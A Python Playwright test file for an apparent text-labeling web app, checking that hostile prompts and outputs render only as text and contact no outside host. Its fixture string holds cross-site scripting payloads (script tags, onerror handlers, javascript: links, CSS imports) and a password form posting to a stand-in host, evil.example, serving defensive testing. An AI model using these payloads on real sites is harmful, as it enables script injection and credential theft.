"""Texts written to harm whoever reads them."""

from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from tests.browser.server import COMPARISON, Api, Server
from tests.browser.test_kinds import COMMENT, HIGHLIGHT, REWRITE, open_task, select

ABROAD = "evil.example"
HOSTILE = f"""\
Before.

<script>window.harmed = 1; alert(1)</script>

<img src="x" onerror="window.harmed = 2; alert(2)">

<iframe src="https://{ABROAD}/frame"></iframe><svg onload="window.harmed = 3"></svg>

<style>@import url("https://{ABROAD}/style.css"); body {{ display: none }}</style>

[press me](javascript:window.harmed=4) and [me](data:text/html,<script>alert(5)</script>)

![a picture](https://{ABROAD}/picture.png) ![relative](/logout)

$\\href{{javascript:alert(6)}}{{formula}}$ $\\includegraphics{{https://{ABROAD}/tex.png}}$

<form action="https://{ABROAD}/"><input name="password"><button>Send</button></form>

After.
"""


def watched(context: BrowserContext) -> tuple[Page, set[str], list[str]]:
    """A page, the hosts that it asks, and the dialogs that it opens."""
    page = context.new_page()
    hosts: set[str] = set()
    dialogs: list[str] = []

    def note_request(request: Request) -> None:
        address = urlsplit(request.url)
        if address.scheme not in {"data", "blob"}:
            hosts.add(address.netloc)

    def note_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    context.on("request", note_request)
    page.on("dialog", note_dialog)
    return page, hosts, dialogs


def check_harmless(page: Page) -> None:
    """Nothing of the hostile text became anything but text."""
    assert page.evaluate("window.harmed") is None
    assert page.locator("main iframe, main form, main svg[onload], main img[src*=evil]").count() == 0
    targets = page.locator("main a[href]").evaluate_all("links => links.map(link => link.protocol)")
    assert set(targets) <= {"http:", "https:", "mailto:"}


def test_hostile_prompts_and_outputs_are_shown_as_text_and_fetch_nothing(
    context: BrowserContext, api: Api, server: Server
) -> None:
    line = {
        "id": "p",
        "prompt": HOSTILE,
        "completions": [{"id": "x", "text": HOSTILE}, {"id": "y", "text": f"{HOSTILE} and more"}],
    }
    project = api.new_project("Hostile texts", questions=[COMPARISON], lines=[line])
    api.call("PATCH", f"/projects/{project}/", json={"guidelines": HOSTILE})
    page, hosts, dialogs = watched(context)
    page.goto(f"/projects/{project}/label")
    for part in (page.get_by_role("article", name="Output A"), page.get_by_label("Prompt")):
        expect(part).to_contain_text("Before.")
        expect(part).to_contain_text("After.")
        expect(part).to_contain_text("window.harmed = 1; alert(1)")
        expect(part).to_contain_text("press me")
        expect(part).to_contain_text(ABROAD)
    check_harmless(page)
    page.keyboard.press("m")
    expect(page.get_by_role("article", name="Output A")).to_contain_text("![a picture]")
    check_harmless(page)
    page.goto(f"/projects/{project}/data")
    page.get_by_text("Before.").first.click()
    expect(page.get_by_text("After.").first).to_be_visible()
    check_harmless(page)
    assert hosts == {urlsplit(server.url).netloc}
    assert dialogs == []


def test_hostile_outputs_stay_text_when_they_are_marked_and_rewritten(
    context: BrowserContext, api: Api, server: Server
) -> None:
    _page, hosts, dialogs = watched(context)
    page, _project = open_task(
        context, api, "Hostile marks", [HIGHLIGHT, REWRITE, COMMENT], [HOSTILE, "Tame."]
    )
    output = page.get_by_role("article", name="Output A")
    select(page, output, "Before.", "password")
    page.keyboard.press("1")
    expect(output.locator("mark").first).to_be_visible()
    page.get_by_placeholder("Comment").first.fill(HOSTILE)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Output A").click()
    page.get_by_label("Improved text of output A").fill(f"{HOSTILE} more")
    expect(page.get_by_test_id("rewrite-count")).to_have_text("1 word added · 0 words taken away")
    page.get_by_label("Anything to add?").fill(HOSTILE)
    check_harmless(page)
    assert hosts == {urlsplit(server.url).netloc}
    assert dialogs == []


def test_a_link_shows_its_address_and_asks_before_it_is_followed(
    context: BrowserContext, api: Api, server: Server
) -> None:
    _page, hosts, _dialogs = watched(context)
    text = f"See [this page](https://{ABROAD}/page?a=1) and ![a picture](https://{ABROAD}/picture.png)"
    page, _project = open_task(context, api, "Links", [COMMENT], [text])
    for link, address in (("this page", "page?a=1"), ("Image from", "picture.png")):
        page.get_by_role("link", name=link).click()
        question = page.get_by_role("dialog", name="Open an address that the text gives?")
        expect(question).to_contain_text(f"https://{ABROAD}/{address}")
        expect(question.get_by_role("link", name="Open in a new tab")).to_have_attribute(
            "href", f"https://{ABROAD}/{address}"
        )
        page.keyboard.press("Escape")
        expect(question).to_have_count(0)
    assert len(context.pages) == 2
    assert hosts == {urlsplit(server.url).netloc}
